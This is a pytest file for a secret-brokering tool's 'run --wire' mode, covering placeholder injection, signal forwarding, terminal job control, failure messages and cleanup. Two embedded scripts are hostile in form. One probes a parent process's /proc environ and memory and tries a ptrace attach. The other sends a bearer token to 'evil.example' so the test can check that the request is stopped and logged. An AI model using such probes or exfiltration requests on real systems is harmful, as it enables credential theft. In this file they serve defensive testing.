"""Real processes: behind `run --wire` a server lives and dies as if nobody stood between it and its host."""

from __future__ import annotations

import fcntl
import json
import os
import pty
import resource
import shlex
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest

from tests.broker.wire.running import (
    PLAIN,
    REF,
    VALUE,
    WAIT_S,
    bare_environment,
    bound,
    command,
    run_folders,
    start,
)
from unsprawl.broker.wire.log import read
from unsprawl.scanner.placeholders import is_of_proxy
from unsprawl.vault import service
from unsprawl.vault.age_store import key_path

LINUX = sys.platform == "linux"
PRINT = "import json, os, sys; print(json.dumps([dict(os.environ), sys.argv[1:]]))"
# Tells each signal that it gets, in a line, and ends at the end of its stdin.
TELL = """\
import os, signal, sys
def told(number, frame):
    os.write(1, f"{signal.Signals(number).name}\\n".encode())
for name in ("TERM", "INT", "HUP", "QUIT", "USR1", "USR2", "WINCH", "CONT"):
    signal.signal(getattr(signal, "SIG" + name), told)
os.write(1, f"{os.getpid()}\\n".encode())
while os.read(0, 100):
    pass
"""
TELLING = [sys.executable, "-I", "-c", TELL]


@pytest.fixture
def environ(home: Path) -> dict[str, str]:
    return bare_environment(home)


@pytest.fixture(autouse=True)
def _not_ignored() -> Iterator[None]:
    """Started by `nohup`, we and all that we start would ignore a hang-up."""
    before = signal.signal(signal.SIGHUP, signal.SIG_DFL)
    yield
    signal.signal(signal.SIGHUP, before)


class Running:
    """`run --wire` with a server that tells what it gets."""

    def __init__(self, process: subprocess.Popen[bytes]) -> None:
        self.process = process
        self.server = int(self.line())

    def line(self) -> str:
        assert self.process.stdout is not None
        return self.process.stdout.readline().decode().strip()

    def end(self) -> str:
        """What it told up to its end."""
        assert self.process.stdin is not None
        self.process.stdin.close()
        assert self.process.stdout is not None
        rest = self.process.stdout.read().decode()
        self.process.wait(WAIT_S)
        return rest


@pytest.fixture
def running(environ: dict[str, str]) -> Iterator[Running]:
    bound(environ, TELLING)
    with subprocess.Popen(
        command(TELLING), env=environ, cwd="/", stdin=subprocess.PIPE, stdout=subprocess.PIPE, start_new_session=True
    ) as process:
        yield Running(process)
        process.kill()


def is_there(pid: int) -> bool:
    """Whether the process runs: a zombie does not."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except OSError:
        return False


def wait_for(happened: Callable[[], bool]) -> None:
    deadline = time.monotonic() + WAIT_S
    while not happened():
        assert time.monotonic() < deadline
        time.sleep(0.01)


# What the server is given.


def test_the_server_gets_a_placeholder_a_way_out_and_what_it_had(environ: dict[str, str]) -> None:
    argv = [sys.executable, "-I", "-c", PRINT, "", "a b", "--", "--help", "$TOKEN", "é", "-"]
    bound(environ, argv)
    done = start(environ | {"LANG": "de_DE.UTF-8"}, argv)
    got, arguments = json.loads(done.stdout)
    assert (done.returncode, done.stderr, arguments) == (0, b"", argv[4:])
    assert got.items() >= (environ | {"LANG": "de_DE.UTF-8", "PLAIN": PLAIN}).items()
    assert is_of_proxy(got["TOKEN"])
    assert len(got["TOKEN"]) == len(VALUE)
    assert got["HTTPS_PROXY"].startswith("http://unsprawl:")
    assert VALUE not in done.stdout.decode()


def test_a_place_in_the_command_line_gets_the_placeholder(environ: dict[str, str]) -> None:
    argv = [sys.executable, "-I", "-c", PRINT, "--token={vault:TOKEN}"]
    bound(environ, argv)
    got, arguments = json.loads(start(environ, argv).stdout)
    assert is_of_proxy(arguments[0].removeprefix("--token="))
    assert "TOKEN" not in got


def test_each_run_has_its_own_placeholder_and_credential(environ: dict[str, str]) -> None:
    argv = [sys.executable, "-I", "-c", PRINT]
    bound(environ, argv)
    first, second = (json.loads(start(environ, argv).stdout)[0] for _ in range(2))
    assert first["TOKEN"] != second["TOKEN"]
    assert first["HTTPS_PROXY"] != second["HTTPS_PROXY"]


def test_standard_streams_belong_to_the_server(environ: dict[str, str]) -> None:
    argv = ["/bin/sh", "-c", "cat; echo talk >&2; exit 7"]
    bound(environ, argv)
    payload = bytes(range(256)) * 4096
    done = start(environ, argv, stdin=payload)
    assert (done.stdout, done.stderr, done.returncode) == (payload, b"talk\n", 7)


def test_nothing_of_ours_is_inherited(environ: dict[str, str]) -> None:
    argv = ["/bin/sh", "-c", "ls /proc/self/fd; ulimit -c; ulimit -Hc; grep -E 'Sig(Ign|Blk)' /proc/self/status"]
    bound(environ, argv)
    before = resource.getrlimit(resource.RLIMIT_CORE)
    directly = subprocess.run(argv, env=environ, capture_output=True, check=True, stdin=subprocess.DEVNULL)
    through = subprocess.run(command(argv), env=environ, capture_output=True, cwd="/", stdin=subprocess.DEVNULL)
    assert blurred(through.stdout) == blurred(directly.stdout), through.stderr
    assert resource.getrlimit(resource.RLIMIT_CORE) == before


def blurred(out: bytes) -> list[str]:
    """Without 32 and 33: the C library keeps these for itself and sets them as it likes."""
    lines = out.decode().splitlines()
    return [f"{int(line.split()[1], 16) & ~0x180000000:x}" if line.startswith("Sig") else line for line in lines]


def test_a_descriptor_of_the_host_reaches_the_server_and_is_not_kept(environ: dict[str, str]) -> None:
    """The host must see its end when the server closes it."""
    reading, writing = os.pipe()
    code = f"import os; os.write({writing}, b'hello'); os.close({writing}); os.close(1); os.read(0, 1)"
    argv = [sys.executable, "-I", "-c", code]
    bound(environ, argv)
    with subprocess.Popen(
        command(argv), env=environ, cwd="/", pass_fds=[writing], stdin=subprocess.PIPE, stdout=subprocess.PIPE
    ) as process:
        os.close(writing)
        with os.fdopen(reading, "rb") as file:
            assert file.read() == b"hello"
        assert process.stdout is not None
        assert process.stdout.read() == b""
        assert process.poll() is None  # it still reads
        assert process.stdin is not None
        process.stdin.close()
        assert process.wait(WAIT_S) == 0


@pytest.mark.parametrize("closed", ["0<&-", "1>&-", "2>&-", "0<&- 1>&- 2>&-"])
def test_streams_that_the_host_closed_stay_closed(closed: str, environ: dict[str, str], tmp_path: Path) -> None:
    seen = tmp_path / "seen"
    argv = ["/bin/sh", "-c", f"ls /proc/$$/fd > {seen}; exit 3"]
    bound(environ, argv)
    shell = ["/bin/sh", "-c", f'exec "$@" {closed}', "sh"]
    directly = subprocess.run([*shell, *argv], env=environ, cwd="/", check=False)
    wanted = seen.read_text()
    through = subprocess.run([*shell, *command(argv)], env=environ, cwd="/", check=False)
    assert (through.returncode, seen.read_text()) == (directly.returncode, wanted) == (3, wanted)


# How it ends.


@pytest.mark.parametrize("code", [0, 1, 7, 126, 255])
def test_the_exit_code_is_the_servers(code: int, environ: dict[str, str]) -> None:
    argv = ["/bin/sh", "-c", f"exit {code}"]
    bound(environ, argv)
    assert start(environ, argv).returncode == code
    assert run_folders() == []


@pytest.mark.parametrize("name", ["TERM", "INT", "KILL", "SEGV", "HUP", "PIPE", "USR1"])
def test_a_server_that_dies_by_a_signal_is_told_as_such(name: str, environ: dict[str, str]) -> None:
    argv = ["/bin/sh", "-c", f"kill -{name} $$"]
    bound(environ, argv)
    done = start(environ, argv)
    assert done.returncode == -getattr(signal, f"SIG{name}")
    assert done.stderr == b""
    assert run_folders() == []


def test_we_end_with_the_server_though_its_children_go_on(environ: dict[str, str]) -> None:
    argv = ["/bin/sh", "-c", "sleep 60 >/dev/null 2>&1 & echo $!"]
    bound(environ, argv)
    begun = time.monotonic()
    done = start(environ, argv)
    os.kill(int(done.stdout), signal.SIGKILL)
    assert time.monotonic() - begun < 20


def test_no_process_is_left(running: Running) -> None:
    group = os.getpgid(running.server)
    assert running.end() == ""
    with pytest.raises(ProcessLookupError):
        os.killpg(group, 0)


# Signals.


@pytest.mark.parametrize("name", ["TERM", "INT", "HUP", "QUIT", "USR1", "USR2", "WINCH"])
def test_a_signal_to_us_reaches_the_server_once(name: str, running: Running) -> None:
    running.process.send_signal(getattr(signal, f"SIG{name}"))
    assert running.line() == f"SIG{name}"
    assert running.end() == ""
    assert running.process.returncode == 0


@pytest.mark.parametrize("name", ["TERM", "INT", "HUP", "QUIT", "USR1", "WINCH"])
def test_a_signal_to_the_group_reaches_the_server_once(name: str, running: Running) -> None:
    """Many servers take a second one for "at once"."""
    for _ in range(3):
        os.killpg(os.getpgid(running.process.pid), getattr(signal, f"SIG{name}"))
        assert running.line() == f"SIG{name}"
        time.sleep(0.05)
    assert running.end() == ""


def test_a_signal_to_us_after_one_to_the_group_is_passed_on(running: Running) -> None:
    os.killpg(os.getpgid(running.process.pid), signal.SIGTERM)
    assert running.line() == "SIGTERM"
    time.sleep(0.05)
    running.process.send_signal(signal.SIGTERM)
    assert running.line() == "SIGTERM"
    assert running.end() == ""


def test_without_the_second_process_signals_are_still_passed_on(running: Running) -> None:
    second = next(pid for pid in children(running.process.pid) if pid != running.server)
    os.kill(second, signal.SIGKILL)
    running.process.send_signal(signal.SIGTERM)
    assert running.line() == "SIGTERM"
    assert running.end() == ""


def children(pid: int) -> list[int]:
    found = []
    for folder in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            if int((folder / "stat").read_text().rpartition(")")[2].split()[1]) == pid:
                found.append(int(folder.name))
    return sorted(found)


def test_what_the_host_ignores_is_ignored(environ: dict[str, str]) -> None:
    argv = ["/bin/sh", "-c", "grep SigIgn /proc/self/status"]
    bound(environ, argv)
    shell = ["/bin/sh", "-c", 'trap "" HUP USR1; exec "$@"', "sh"]
    directly = subprocess.run([*shell, *argv], env=environ, capture_output=True, cwd="/", check=True)
    through = subprocess.run([*shell, *command(argv)], env=environ, capture_output=True, cwd="/", check=True)
    assert blurred(through.stdout) == blurred(directly.stdout)


@pytest.mark.skipif(not LINUX, reason="the kernel ends the server there")
def test_the_server_ends_when_we_are_killed(running: Running) -> None:
    running.process.kill()
    wait_for(lambda: not is_there(running.server))
    wait_for(lambda: run_folders() == [])  # the second process did that


def test_where_the_kernel_does_not_end_the_server_the_second_process_does(environ: dict[str, str]) -> None:
    """As on macOS; there it was never run."""
    bound(environ, TELLING)
    words = command(TELLING)
    words[3] = words[3].replace(
        "from unsprawl.broker.run",
        "import unsprawl.broker.wire.hardening as h; h.LINUX = False; from unsprawl.broker.run",
    )
    with subprocess.Popen(words, env=environ, cwd="/", stdin=subprocess.PIPE, stdout=subprocess.PIPE) as process:
        running = Running(process)
        assert is_there(running.server)
        process.kill()
        wait_for(lambda: not is_there(running.server))
        wait_for(lambda: run_folders() == [])


def test_a_proxy_that_cannot_serve_leaves_no_server(environ: dict[str, str]) -> None:
    bound(environ, TELLING)
    words = command(TELLING)
    broken = "import unsprawl.broker.wire.tell as t; t.Teller.__init__ = lambda *_: 1 / 0; from unsprawl.broker.run"
    words[3] = words[3].replace("from unsprawl.broker.run", broken)
    done = subprocess.run(words, env=environ, cwd="/", stdin=subprocess.DEVNULL, capture_output=True, timeout=WAIT_S)
    assert done.returncode == 70
    assert done.stderr.decode() == "unsprawl: a bug in unsprawl (ZeroDivisionError). Please report it.\n"
    assert not is_there(int(done.stdout or 1 << 22))
    assert run_folders() == []


def test_a_group_that_is_killed_leaves_a_folder_that_the_next_start_removes(
    running: Running, environ: dict[str, str]
) -> None:
    os.killpg(os.getpgid(running.process.pid), signal.SIGKILL)
    wait_for(lambda: not is_there(running.server))
    (left,) = run_folders()
    from unsprawl.vault import places

    old = places.state_dir() / "wire" / left
    os.utime(old, (time.time() - 3600,) * 2)
    argv = ["/bin/sh", "-c", f"ls {old.parent}"]
    bound(environ, argv)
    seen = start(environ, argv).stdout.decode().split()
    assert left not in seen
    assert len(seen) == 1
    assert run_folders() == []


def test_the_folder_of_a_run_that_goes_on_is_left_alone(running: Running, environ: dict[str, str]) -> None:
    from unsprawl.vault import places

    (name,) = run_folders()
    folder = places.state_dir() / "wire" / name
    os.utime(folder, (time.time() - 3600,) * 2)
    argv = ["/bin/true"]
    bound(environ, argv)
    start(environ, argv)
    assert run_folders() == [name]
    assert sorted(path.stat().st_mode & 0o777 for path in folder.iterdir()) == [0o600, 0o600]
    assert folder.stat().st_mode & 0o777 == 0o700


# A terminal.


class Terminal:
    """A shell with job control, as people have it."""

    def __init__(self, environ: dict[str, str]) -> None:
        self.pid, self.fd = pty.fork()
        if not self.pid:
            os.execve("/bin/bash", ["bash", "--norc", "--noprofile", "-i"], environ | {"PS1": "READY> "})
        self.seen = ""

    def type(self, text: str) -> None:
        os.write(self.fd, text.encode())

    def until(self, wanted: str) -> str:
        """What is shown up to that text."""
        deadline = time.monotonic() + WAIT_S
        os.set_blocking(self.fd, False)
        while wanted not in self.seen:
            assert time.monotonic() < deadline, self.seen
            try:
                self.seen += os.read(self.fd, 4096).decode(errors="replace")
            except BlockingIOError:
                time.sleep(0.01)
        shown, _, self.seen = self.seen.partition(wanted)
        return shown + wanted


@pytest.fixture
def terminal(environ: dict[str, str]) -> Iterator[Terminal]:
    made = Terminal(environ)
    yield made
    os.kill(made.pid, signal.SIGKILL)
    os.waitpid(made.pid, 0)
    os.close(made.fd)


@pytest.mark.skipif(shutil.which("bash", path="/bin:/usr/bin") is None, reason="no bash")
def test_the_keys_of_a_terminal(terminal: Terminal, environ: dict[str, str], tmp_path: Path) -> None:
    script = tmp_path / "start"
    program = tmp_path / "server.py"
    program.write_text(TELL + 'os.write(1, b"ended\\n")\n')
    argv = [sys.executable, "-I", str(program)]
    bound(environ, argv)
    script.write_text(f"#!/bin/sh\nexec {shlex.join(command(argv))}\n")
    script.chmod(0o755)
    terminal.until("READY> ")
    terminal.type(f"{script}\n")
    terminal.until(f"{script}\r\n")
    server = int(terminal.until("\n").strip())

    terminal.type("\x03")
    assert terminal.until("SIGINT\r\n").count("SIGINT") == 1
    terminal.type("\x1c")
    assert "SIGINT" not in terminal.until("SIGQUIT\r\n")

    terminal.type("\x1a")  # the shell has its prompt back: it saw its job stop
    terminal.until("Stopped")
    terminal.until("READY> ")
    wait_for(lambda: state(server) == "T")
    terminal.type("fg\n")
    terminal.until("SIGCONT\r\n")
    wait_for(lambda: state(server) == "S")

    terminal.type("a line\n")
    terminal.type("\x04")
    assert "SIGQUIT" not in terminal.until("ended\r\n")
    terminal.until("READY> ")
    terminal.type("echo code=$?\n")
    terminal.until("code=0\r\n")


def state(pid: int) -> str:
    return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]


# What the server can see of us.

LOOK = """\
import json, os
seen = {}
parent = os.getppid()
for name in ("environ", "mem", "maps", "auxv", "fd"):
    try:
        if name == "fd":
            os.readlink(f"/proc/{parent}/fd/2")
        else:
            open(f"/proc/{parent}/{name}", "rb").read(1)
        seen[name] = True
    except OSError as error:
        seen[name] = error.errno in (5,) # mem: the first page is not there, but it could be opened
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
if "attach" in sys.argv: # stops the other, where it can
    seen["attached"] = libc.ptrace(16, parent, 0, 0) == 0
seen["own"] = bool(open("/proc/self/maps").read(1))
seen["dumpable"] = libc.prctl(3, 0, 0, 0, 0)
print(json.dumps(seen))
"""
_WITHOUT_RIGHTS = ["setpriv", "--bounding-set=-all", "--inh-caps=-all"] if os.geteuid() == 0 else []
"""Root reads everything; without its capabilities it is a user as others are."""


@pytest.mark.skipif(not LINUX, reason="/proc")
@pytest.mark.skipif(bool(_WITHOUT_RIGHTS) and shutil.which("setpriv") is None, reason="no setpriv")
def test_the_server_cannot_look_into_the_process_that_holds_the_values(environ: dict[str, str]) -> None:
    argv = [sys.executable, "-I", "-c", LOOK, "attach"]
    bound(environ, argv)

    def seen(words: list[str]) -> dict[str, object]:
        done = subprocess.run([*_WITHOUT_RIGHTS, *words], env=environ, cwd="/", capture_output=True, check=False)
        found: dict[str, object] = json.loads(done.stdout or "{}")
        assert done.returncode == 0, done.stderr
        return found

    closed = {"environ", "mem", "maps", "auxv", "fd", "attached"}
    wired = seen(command(argv))
    assert {name for name in closed if wired[name]} == set()
    assert (wired["own"], wired["dumpable"]) == (True, 1)  # the server itself is as it would be
    # Else the look was blind.
    open_parent = [
        sys.executable,
        "-I",
        "-c",
        f"import subprocess, sys; sys.exit(subprocess.run({argv[:-1]!r}).returncode)",
    ]
    looked = seen(open_parent)
    assert {name for name in looked if looked[name]} >= {"environ", "mem", "maps", "fd"}


def test_our_own_environment_and_arguments_hold_nothing(running: Running) -> None:
    for pid in (running.process.pid, *children(running.process.pid)):
        for name in ("environ", "cmdline"):
            with suppress(PermissionError):
                assert VALUE.encode() not in Path(f"/proc/{pid}/{name}").read_bytes()


@pytest.mark.skipif(not LINUX, reason="/proc")
def test_neither_the_server_nor_the_second_process_ever_had_the_value(running: Running) -> None:
    from tests.external.wire import holds, is_readable

    others = children(running.process.pid)
    assert len(others) == 2
    if not all(map(is_readable, others)):
        pytest.skip("only root can look")
    assert [holds(pid, VALUE) for pid in others] == [False, False]
    assert holds(os.getpid(), VALUE)


# When it cannot.


def one_line(done: subprocess.CompletedProcess[bytes], code: int) -> str:
    """Checks a failure: nothing on stdout, one line on stderr, no secret, the right code, nothing left."""
    text = done.stderr.decode()
    assert (done.returncode, done.stdout) == (code, b""), text
    assert text.startswith("unsprawl: ")
    assert text.count("\n") == 1
    assert text[:-1].isprintable()
    assert VALUE not in text
    assert PLAIN not in text
    assert run_folders() == []
    return text


@pytest.fixture
def touching(tmp_path: Path) -> Iterator[list[str]]:
    """A server that must not be started."""
    yield ["/usr/bin/touch", str(tmp_path / "started")]
    assert not (tmp_path / "started").exists()


def test_a_record_without_destinations(environ: dict[str, str], touching: list[str]) -> None:
    bound(environ, touching, wire=())
    assert "names no hosts" in one_line(start(environ, touching), 4)


def test_without_wire_the_server_is_not_started(environ: dict[str, str], touching: list[str]) -> None:
    """A shared file from which somebody takes `--wire` must not make us hand the key over."""
    bound(environ, touching)
    words = [word for word in command(touching) if word != "--wire"]
    done = subprocess.run(words, env=environ, cwd="/", capture_output=True, timeout=WAIT_S, check=False)
    line = one_line(done, 4)
    assert "without --wire" in line
    assert VALUE not in line


def test_a_secret_that_is_gone(environ: dict[str, str], touching: list[str]) -> None:
    record = bound(environ, touching)
    service.discard("age-file", record.variables[0][1])
    one_line(start(environ, touching), 4)


def test_a_store_that_cannot_be_opened(environ: dict[str, str], touching: list[str]) -> None:
    bound(environ, touching)
    key_path().unlink()
    assert "missing" in one_line(start(environ, touching), 4)


def test_a_command_that_is_not_bound(environ: dict[str, str], touching: list[str]) -> None:
    bound(environ, ["/bin/true"])
    assert f"unsprawl vault allow {REF} --" in one_line(start(environ, touching), 4)


def test_a_value_that_no_request_can_carry(environ: dict[str, str], touching: list[str]) -> None:
    bound(environ, touching, value="two\nlines-of-a-value")
    assert "several lines" in one_line(start(environ, touching), 4)


def test_a_record_that_is_not_there(environ: dict[str, str], touching: list[str]) -> None:
    assert "vault list" in one_line(start(environ, touching), 4)


def test_no_port(environ: dict[str, str], touching: list[str]) -> None:
    bound(environ, touching)
    broken = "import socket; socket.socket.bind = lambda *_: (_ for _ in ()).throw(OSError(13, 'Permission denied')); "
    words = command(touching)
    words[3] = broken + words[3]
    done = subprocess.run(words, env=environ, cwd="/", capture_output=True, timeout=WAIT_S)
    assert "could not open a port on 127.0.0.1 (Permission denied)" in one_line(done, 4)


def test_a_command_that_is_not_installed(environ: dict[str, str]) -> None:
    bound(environ, ["not-installed-here"])
    assert "not found" in one_line(start(environ, ["not-installed-here"]), 127)


@pytest.mark.parametrize(
    ("content", "code", "said"), [("#!/nonexistent/node\n", 127, "interpreter"), ("no first line\n", 126, "")]
)
def test_a_file_that_is_no_program(content: str, code: int, said: str, environ: dict[str, str], tmp_path: Path) -> None:
    script = tmp_path / "script"
    script.write_text(content)
    script.chmod(0o755)
    bound(environ, [str(script)])
    assert said in one_line(start(environ, [str(script)]), code)


def test_certificates_that_the_entry_names_are_refused(
    environ: dict[str, str], touching: list[str], tmp_path: Path
) -> None:
    """Whoever writes the entry could otherwise read what is sent."""
    theirs = tmp_path / "theirs.pem"
    theirs.write_text("-----BEGIN CERTIFICATE-----\n")
    sets = {"UNSPRAWL_EXTRA_CA": str(theirs)}
    bound(environ, touching, entry_environ=sets)
    assert "only you may name" in one_line(start(environ | sets, touching), 4)
    bound(environ, touching)
    assert "UNSPRAWL_EXTRA_CA" in one_line(start(environ | sets, touching), 4)


def test_certificates_that_are_not_there(environ: dict[str, str], touching: list[str]) -> None:
    given = environ | {"UNSPRAWL_EXTRA_CA": "/nonexistent/ca.pem"}
    bound(given, touching)
    assert "UNSPRAWL_EXTRA_CA" in one_line(start(given, touching), 4)


# What is told.

SEND = """\
import os, socket
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTP_PROXY"])
from base64 import b64encode
credential = b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
def ask(host):
    line = socket.create_connection((proxy.hostname, proxy.port))
    token = os.environ["TOKEN"]
    headers = ("Host: " + host, "Proxy-Authorization: Basic " + credential, "Authorization: Bearer " + token)
    line.sendall("\\r\\n".join((f"GET http://{host}/path?query=1 HTTP/1.1", *headers, "", "")).encode())
    return line.makefile("rb").readline()
for host in ("evil.example", "evil.example", "\\u00e9vil.example"):
    ask(host)
"""


def test_what_is_stopped_is_said_and_logged_without_values(environ: dict[str, str]) -> None:
    argv = [sys.executable, "-I", "-c", SEND]
    bound(environ, argv)
    done = start(environ, argv)
    lines = done.stderr.decode().splitlines()
    assert done.returncode == 0, lines
    mine = [line for line in lines if "placeholder of TOKEN" in line]
    assert len(mine) == 1, lines  # the same twice is said once
    assert f"unsprawl vault log {REF}" in mine[0]
    told = [line for line in read(REF) if line.what == "stopped" and line.variables]
    assert [(line.host, line.method, line.status, line.variables) for line in told] == [
        ("evil.example:80", "GET", 403, ("TOKEN",))
    ] * 2
    everything = "".join(path.read_text() for path in log_files())
    for hidden in (VALUE, PLAIN, "query", "/path"):
        assert hidden not in everything + done.stderr.decode()
    first, *_, last = read(REF)
    assert (first.what, last.what) == ("started", "ended")


def log_files() -> list[Path]:
    from unsprawl.broker.wire.log import log_folder

    return sorted(log_folder().iterdir())


def test_a_host_that_reads_no_stderr_stops_nothing(environ: dict[str, str]) -> None:
    argv = [sys.executable, "-I", "-c", SEND]
    bound(environ, argv)
    reading, writing = os.pipe()
    fcntl.fcntl(writing, 1031, 4096)
    os.set_blocking(writing, False)
    with suppress(BlockingIOError):
        while True:
            os.write(writing, b"x")
    os.set_blocking(writing, True)
    done = subprocess.run(command(argv), env=environ, cwd="/", stderr=writing, timeout=WAIT_S)
    os.close(reading)
    os.close(writing)
    assert done.returncode == 0


# What it costs plain `run`.


def test_plain_run_loads_nothing_of_it(environ: dict[str, str]) -> None:
    bound(environ, ["/bin/true"])
    words = command(["/bin/true"])
    words[1:1] = ["-X", "importtime"]
    words.remove("--wire")
    report = subprocess.run(words, env=environ, cwd="/", capture_output=True, text=True, check=True).stderr
    imported = {line.rsplit("|", 1)[-1].strip() for line in report.splitlines()}
    assert "pyrage" in imported
    assert imported.isdisjoint({"asyncio", "ssl", "h11", "cryptography", "ctypes", "unsprawl.broker.wire.run"})
